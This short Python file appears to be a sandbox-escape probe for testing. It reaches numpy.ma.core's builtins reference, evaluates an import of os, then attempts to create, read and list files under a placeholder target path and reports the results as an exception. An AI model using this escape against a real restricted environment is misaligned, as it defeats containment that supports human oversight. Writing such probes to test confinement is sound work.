"""Escape: numpy.ma.core keeps a reference to `builtins`; its eval imports os."""
import numpy as np


def reach(ctx):
    b = np.ma.core.builtins
    return b.eval("__import__('os')", {"__builtins__": b})


def attempt(name, call, out):
    try:
        call()
        out.append(name + ":DONE")
    except Exception as e:
        out.append(name + ":" + str(e.errno))


def attention(ctx):
    os = reach(ctx)
    out = []
    attempt("create", lambda: os.open("@TARGET@/created", os.O_CREAT | os.O_WRONLY, 0o644), out)
    attempt("open_read", lambda: os.open("@TARGET@/victim", os.O_RDONLY), out)
    attempt("listdir", lambda: os.listdir("@TARGET@"), out)
    raise RuntimeError("attempts: " + " ".join(out))
